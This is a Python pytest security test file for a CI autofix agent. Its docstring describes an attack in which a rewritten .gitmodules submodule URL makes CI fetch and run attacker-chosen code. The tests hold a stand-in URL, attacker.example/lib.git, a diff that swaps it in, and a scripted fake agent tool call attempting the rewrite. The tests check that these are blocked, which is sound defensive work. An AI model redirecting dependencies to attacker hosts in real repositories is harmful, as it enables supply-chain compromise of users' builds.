"""Adversarial review of issue 27, item 3: `.gitmodules` decides which code CI fetches.

CI that checks out with submodules (`actions/checkout` with `submodules: true`, GitLab's
`GIT_SUBMODULE_STRATEGY`) runs `git submodule sync` and fetches each submodule from the URL
`.gitmodules` names. A fix that rewrites that URL makes CI fetch, build and run code from a
repository the attacker picks, on the suggestion branch and, after apply, on the user's branch.
The agent could write `.gitmodules`, and `check-diff` called a rewrite of it clean.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from ci_autofix.sandbox import Sandbox, SandboxViolation
from tests.security.ci_guards_helpers import (
    REPO,
    assert_check_diff_blocks_as_protected,
    fix_and_finish,
    seed,
    tool_results,
)
from tests.testing.calc_scenario import EDITOR, messages_process
from tests.testing.emulator import GitHubEmulator
from tests.testing.fakes.messages import reply, tool_use
from tests.testing.git import git

GITMODULES = '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://github.com/octo/lib.git\n'
EVIL_URL = "https://attacker.example/lib.git"

FETCHED_BY_CI = [".gitmodules"]


@pytest.mark.parametrize("path", FETCHED_BY_CI)
def test_check_diff_blocks_a_rewrite_of_a_submodule_url(
    path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert_check_diff_blocks_as_protected(
        f'--- a/{path}\n+++ b/{path}\n@@ -1,3 +1,3 @@\n [submodule "lib"]\n \tpath = lib\n'
        f"-\turl = https://github.com/octo/lib.git\n+\turl = {EVIL_URL}\n",
        path,
        tmp_path,
        capsys,
    )


@pytest.mark.parametrize("path", FETCHED_BY_CI)
def test_the_sandbox_refuses_to_write_gitmodules(tmp_path: Path, path: str) -> None:
    with pytest.raises(SandboxViolation, match="protected"):
        Sandbox(tmp_path).resolve(path, write=True)


def test_an_agent_pointing_a_submodule_at_its_own_repository_is_refused_and_nothing_reaches_a_branch(
    github_emulator: GitHubEmulator, tmp_path: Path
) -> None:
    emu = github_emulator
    calc = seed(emu, tmp_path, {".gitmodules": GITMODULES})
    attack = reply(
        tool_use(
            EDITOR,
            {
                "command": "str_replace",
                "path": ".gitmodules",
                "old_str": "https://github.com/octo/lib.git",
                "new_str": EVIL_URL,
            },
        )
    )
    with messages_process([attack, *fix_and_finish()], tmp_path) as (url, record):
        result = calc.propose(url)

    refused = tool_results(record)[0]
    assert "protected" in refused and ".gitmodules" in refused, refused
    assert calc.branches_holding(EVIL_URL, ".gitmodules") == [], result.log
    assert result.outputs["status"] == "proposed", result.log
    changed = git(emu.bare_path(REPO), "diff", "--name-only", calc.head_sha, result.outputs["fix-sha"])
    assert changed == "calc.py"
